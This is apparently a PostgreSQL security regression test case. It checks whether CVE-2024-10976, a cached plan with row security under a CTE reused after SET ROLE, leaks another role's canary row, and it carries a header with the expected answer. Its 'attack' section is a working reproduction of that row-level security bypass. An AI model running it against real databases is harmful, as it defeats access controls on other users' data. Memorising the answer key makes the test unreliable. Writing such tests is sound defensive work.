-- title: CVE-2024-10976: a cached plan with row security below a CTE, reused after SET ROLE
-- class: cve-control
-- severity: -
-- kind: control
-- leaks: attack /CANARY_B/
-- answer: control: fixed in PostgreSQL 15.9
-- role: c161_app

--@ setup
create role c161_b nologin;
create role c161_a nologin;
create role c161_app login noinherit;
grant c161_a, c161_b to c161_app;
grant usage on schema app to c161_a, c161_b;
create table app.r (who name, secret text);
insert into app.r values ('c161_b', 'CANARY_B');
grant select on app.r to c161_a, c161_b;
alter table app.r enable row level security;
create policy p on app.r using (who = current_user);
create policy pb on app.r to c161_b using (true);
--@ attack
\o /dev/null
set role c161_b;
prepare q as with x as (select * from app.r) select * from x;
prepare q2 as select (select max(secret) from app.r);
execute q;
execute q2;
\o
set role c161_a;
execute q;
execute q2;
